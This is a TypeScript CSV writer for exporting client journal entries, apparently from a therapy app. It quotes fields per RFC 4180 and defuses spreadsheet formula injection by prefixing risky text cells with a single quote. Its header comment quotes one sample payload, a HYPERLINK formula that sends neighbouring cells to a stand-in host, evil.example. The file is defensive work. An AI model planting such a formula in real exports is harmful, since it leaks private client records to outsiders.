/**
 * A small RFC 4180 CSV writer: CRLF between records, a field is quoted when
 * it contains a comma, a double quote, CR or LF, and quotes inside it are
 * doubled.
 *
 * Exports hold text clients typed. Spreadsheet programs (Excel, LibreOffice,
 * Google Sheets) run a cell that starts with =, +, - or @ as a formula, and
 * tab or CR at the start can smuggle one past some importers. A journal entry
 * such as `=HYPERLINK("https://evil.example/?"&A1, "Open")` would then send
 * other cells of the record to a stranger when the therapist opens the file
 * ("CSV injection", OWASP). Such text cells get a leading single quote, which
 * spreadsheets treat as "this is text"; the apostrophe stays visible, which
 * is the accepted price for never executing client-written text.
 * Numbers are written as numbers and never prefixed (-3 is a value, not a formula).
 */

export type CsvCell = string | number | null | undefined;

const FORMULA_START = /^[=+\-@\t\r]/;
const NEEDS_QUOTES = /[",\r\n]/;

/** Makes a text cell inert in spreadsheets (see above). */
export function neutraliseFormula(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}

export function csvField(cell: CsvCell): string {
  if (cell === null || cell === undefined) return "";
  if (typeof cell === "number") return Number.isFinite(cell) ? String(cell) : "";
  const text = neutraliseFormula(cell);
  return NEEDS_QUOTES.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
}

/** Header and rows as one CSV document, each record ending in CRLF. */
export function toCsv(header: readonly string[], rows: readonly (readonly CsvCell[])[]): string {
  return [header, ...rows].map((record) => `${record.map(csvField).join(",")}\r\n`).join("");
}
